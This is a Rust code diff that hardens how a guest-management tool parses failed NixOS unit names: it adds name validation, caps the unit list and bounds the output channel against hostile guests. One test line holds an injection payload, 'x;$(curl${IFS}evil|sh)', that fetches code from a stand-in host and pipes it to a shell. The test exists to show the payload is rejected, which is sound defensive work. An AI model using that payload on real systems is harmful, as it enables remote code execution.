@@ -2,7 +2,7 @@
 
 use std::io::{BufRead, BufReader, Read};
 use std::sync::mpsc;
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 use crate::error::{Error, FailedActivation};
 use crate::host::Host;
@@ -20,6 +20,9 @@ const LAST_LINES: Duration = Duration::from_millis(200);
 
 /// A line of a guest is shown, not stored: what is longer is cut.
 const LONGEST_LINE: u64 = 64 * 1024;
+
+/// More failed units than this help nobody.
+const MOST_UNITS: usize = 64;
 
 enum Said {
     Line(String),
@@ -43,18 +46,23 @@ pub(crate) fn switch(
         Exit::Code(0) => None,
         Exit::Code(4) => Some(FailedActivation::UnitsFailed { units }),
         Exit::Code(100) => Some(FailedActivation::NeedsRestart),
-        Exit::Code(code) => Some(FailedActivation::Failed { code }),
         Exit::Signal(signal) => Some(FailedActivation::Killed { signal }),
+        other => Some(FailedActivation::Failed { code: other.code() }),
     })
 }
 
 /// NixOS names them on one line: `warning: the following units failed: a.service, b.service`.
 fn failed_units(line: &str, units: &mut Vec<String>) {
     if let Some((_, names)) = line.split_once("the following units failed:") {
-        units.extend(
-            names.split([',', ' ']).map(str::trim).filter(|name| !name.is_empty()).map(str::to_owned),
-        );
+        let names = names.split([',', ' ']).filter(|name| is_unit(name)).map(str::to_owned);
+        units.extend(names.take(MOST_UNITS.saturating_sub(units.len())));
     }
+}
+
+/// What systemd lets a unit be called. The guest is hostile, and the name goes into a hint that people copy.
+fn is_unit(name: &str) -> bool {
+    let fits = |byte: u8| byte.is_ascii_alphanumeric() || b":_.@\\-".contains(&byte);
+    !name.is_empty() && name.len() <= 255 && !name.starts_with('-') && name.bytes().all(fits)
 }
 
 fn run(
@@ -71,7 +79,8 @@ fn run(
         stderr: writer.into(),
     };
     let request = Request::Attach { target: power::target(host, name), command: command() };
-    let (say, said) = mpsc::channel();
+    // Bounded: a guest that prints for ever waits for us, and does not fill the host's memory.
+    let (say, said) = mpsc::sync_channel(1024);
     let lines = say.clone();
     // Not joined: it ends when the last process of the guest closes the pipe, and holds nothing but the pipe.
     std::thread::spawn(move || read_lines(reader, &lines));
@@ -85,27 +94,25 @@ fn run(
             };
             let _ = say.send(Said::Ended(ended));
         });
-        let mut ended = None;
-        loop {
-            let next = match ended {
-                None => said.recv().map_err(|_| mpsc::RecvTimeoutError::Disconnected),
-                Some(_) => said.recv_timeout(LAST_LINES),
-            };
-            match (next, ended.take()) {
-                (Ok(Said::Line(text)), still) => {
-                    line(text);
-                    ended = still;
-                }
-                (Ok(Said::Ended(result)), _) => ended = Some(result),
-                (Err(_), Some(result)) => return result,
-                // Both senders are gone and neither spoke: the worker's thread died.
-                (Err(_), None) => return Err(Error::Worker(crate::worker::WorkerError::None)),
+        // Until the switch has ended...
+        let ended = loop {
+            match said.recv() {
+                Ok(Said::Line(text)) => line(text),
+                Ok(Said::Ended(result)) => break result,
+                // Both senders are gone and neither said so: the worker's thread panicked.
+                Err(mpsc::RecvError) => return Err(Error::Cancelled),
             }
+        };
+        // ... and what it had printed by then: no longer, however much is said.
+        let end = Instant::now() + LAST_LINES;
+        while let Ok(Said::Line(text)) = said.recv_timeout(end.saturating_duration_since(Instant::now())) {
+            line(text);
         }
+        ended
     })
 }
 
-fn read_lines(reader: impl Read, lines: &mpsc::Sender<Said>) {
+fn read_lines(reader: impl Read, lines: &mpsc::SyncSender<Said>) {
     let mut reader = BufReader::new(reader);
     let mut bytes = Vec::new();
     loop {
@@ -147,12 +154,13 @@ mod tests {
         let mut units = Vec::new();
         failed_units("starting the following units: a.service", &mut units);
         failed_units("warning: the following units failed: web.service, db.service", &mut units);
-        assert_eq!(units, ["web.service", "db.service"]);
+        failed_units("the following units failed: x;$(curl${IFS}evil|sh) -rf a@b.service", &mut units);
+        assert_eq!(units, ["web.service", "db.service", "a@b.service"]);
     }
 
     #[test]
     fn lines_of_a_guest_carry_no_control_characters_and_are_cut() {
-        let (say, said) = mpsc::channel();
+        let (say, said) = mpsc::sync_channel(16);
         let mut bytes = b"\x1b[31mred\x07\n".to_vec();
         bytes.extend(vec![b'x'; 70_000]);
         read_lines(&bytes[..], &say);
